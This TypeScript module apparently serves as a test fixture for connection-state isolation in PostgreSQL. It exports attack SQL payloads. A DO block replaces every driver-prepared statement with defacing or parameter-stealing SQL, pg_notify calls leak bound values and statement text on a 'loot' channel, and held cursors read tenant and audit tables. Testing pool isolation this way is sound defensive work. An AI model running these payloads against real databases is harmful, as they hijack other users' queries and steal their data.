// What PostgreSQL keeps on a connection for longer than a transaction.

export const EVIL = {
  deface: "update app.projects set name = 'defaced' returning id, name",
  look: "select id, name from app.projects",
  steal: "select pg_notify('loot', coalesce(encode($1, 'hex'), ''))::text, $2, $3, $4",
};

export const PREPARED = [
  `prepare a as ${EVIL.look}`,
  "execute a",
  "deallocate a",
  "deallocate all",
  'deallocate "{verb}"',
  `prepare "{verb}" as ${EVIL.deface}`,
  `prepare "open" (bytea, text, text, text) as ${EVIL.steal}`,
  'deallocate "open"',
  'execute "{verb}"',
  // Every name that the driver has, with SQL of the attacker's behind it.
  `do $do$ declare s record; begin
     for s in select name, parameter_types from pg_prepared_statements loop
       execute format('deallocate %I', s.name);
       if cardinality(s.parameter_types) = 4 then execute format('prepare %I (bytea, text, text, text) as ${EVIL.steal.replaceAll("'", "''")}', s.name);
       else execute format('prepare %I as ${EVIL.deface.replaceAll("'", "''")}', s.name); end if;
     end loop; end $do$`,
  "select pg_notify('loot', string_agg(statement, ' ')) from pg_prepared_statements",
];

export const CURSORS = [
  "declare c cursor for select * from app.projects",
  "declare c cursor with hold for select *, app.tenant_id() from app.projects",
  "declare c cursor with hold for select id from app.current_tenant",
  "declare c scroll cursor with hold for select * from audit.events",
  "fetch all from c",
  "move forward all in c",
  "close c",
  "close all",
];
